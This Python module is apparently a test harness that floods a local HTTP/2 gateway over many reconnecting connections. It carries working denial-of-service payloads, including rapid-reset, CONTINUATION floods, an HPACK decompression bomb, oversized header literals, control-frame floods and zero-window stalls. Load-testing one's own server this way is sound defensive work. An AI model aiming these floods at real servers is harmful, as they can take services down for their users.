"""Attacks by frames of HTTP/2: each on many connections at a time, opened again as they are ended."""

import asyncio
import contextlib
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, WITH_PRIORITY = 1, 4, 0x20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(fields):
    out = b""
    for name, value in fields:
        out += b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return out


def head(path=b"/public/x", method=b"GET"):
    return block([(b":method", method), (b":scheme", b"http"), (b":authority", b"gw.test"), (b":path", path)])


def streams(make, count=2000):
    return b"".join(make(2 * i + 1) for i in range(count))


BOMB = head() + b"\x40\x01a\x00" + b"\xbe" * 16_000
ZERO_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
PLAIN = frame(SETTINGS, 0, 0)
WHOLE, OPEN = END_HEADERS | END_STREAM, END_HEADERS

# What is sent once the connection is open, again and again until it ends; None: nothing more, just waiting.
ATTACKS = {
    "rapid-reset": (PLAIN, streams(lambda at: frame(HEADERS, WHOLE, at, head()) + frame(RST_STREAM, 0, at, b"\0\0\0\x08"), 50_000), False),
    "window-update-0": (PLAIN, streams(lambda at: frame(HEADERS, OPEN, at, head()) + frame(WINDOW_UPDATE, 0, at, b"\0\0\0\0")), False),
    "window-overflow": (PLAIN, streams(lambda at: frame(HEADERS, OPEN, at, head()) + 2 * frame(WINDOW_UPDATE, 0, at, b"\x7f\xff\xff\xff")), False),
    "data-after-end": (PLAIN, streams(lambda at: frame(HEADERS, WHOLE, at, head()) + frame(DATA, 0, at, b"more")), False),
    "self-dependency": (PLAIN, streams(lambda at: frame(HEADERS, WHOLE | WITH_PRIORITY, at, struct.pack(">IB", at, 1) + head())), False),
    "continuation": (PLAIN + frame(HEADERS, END_STREAM, 1, head()), frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 1000, True),
    "hpack-bomb": (ZERO_WINDOW, streams(lambda at: frame(HEADERS, END_STREAM, at, BOMB) + frame(CONTINUATION, END_HEADERS, at, b"\xbe" * 16_000), 128), False),
    "huge-literal": (PLAIN + frame(HEADERS, END_STREAM, 1, head() + b"\0\x01a\x7f\x80\x80\x80\x08"), frame(CONTINUATION, 0, 1, b"x" * 16_000), True),
    "settings": (PLAIN, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 1000, True),
    "ping": (PLAIN, frame(PING, 0, 0, b"\7" * 8) * 1000, True),
    "priority": (PLAIN, frame(PRIORITY, 0, 1, b"\0\0\0\3\7") * 1000, True),
    "window-update": (PLAIN, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000, True),
    "empty-data": (PLAIN + frame(HEADERS, OPEN, 1, head(method=b"POST")), frame(DATA, 0, 1) * 1000, True),
    "unknown": (PLAIN, frame(0xbb, 0, 0, b"x" * 100) * 1000, True),
    "zero-window": (ZERO_WINDOW, streams(lambda at: frame(HEADERS, WHOLE, at, head()), 128), False),
    "unread-refusals": (ZERO_WINDOW, streams(lambda at: frame(HEADERS, WHOLE, at, head(b"/v1/agents/x")), 128), False),
    "unread-pings": (PLAIN, frame(PING, 0, 0, b"\7" * 8) * 1000, True),
}
# These are ended when nothing was taken for as long as `header_timeout`, which is 10 s.
SECONDS_MIN = {"zero-window": 13, "unread-refusals": 13, "hpack-bomb": 13}


async def one(port, name, pause, until, counts):
    """One place of the attacker's: a connection after the other."""
    while time.monotonic() < until:
        writer = None
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            counts["opened"] += 1
            await asyncio.wait_for(attack(reader, writer, name, until), until - time.monotonic() + 1)
        if writer is not None:
            writer.transport.abort()
        await asyncio.sleep(pause)


async def attack(reader, writer, name, until):
    """Until the gateway ends the connection, or the time is over."""
    opening, flood, again = ATTACKS[name]

    async def read():
        while await reader.read(65_536):
            pass

    reading = asyncio.create_task(read()) if name != "unread-pings" else None
    try:
        writer.write(PREFACE + opening)
        while time.monotonic() < until:
            writer.write(flood)
            await writer.drain()
            if not again:
                break
            await asyncio.sleep(0)
        if reading:
            await asyncio.wait_for(asyncio.shield(reading), max(0, until - time.monotonic()))
    finally:
        if reading:
            reading.cancel()


def run(port, name, connections, pause, seconds):
    """Attacks for so many seconds; says how many connections were opened."""
    counts = {"opened": 0}

    async def all_of_them():
        until = time.monotonic() + seconds
        await asyncio.gather(*(one(port, name, pause, until, counts) for _ in range(connections)), return_exceptions=True)

    asyncio.run(all_of_them())
    return counts
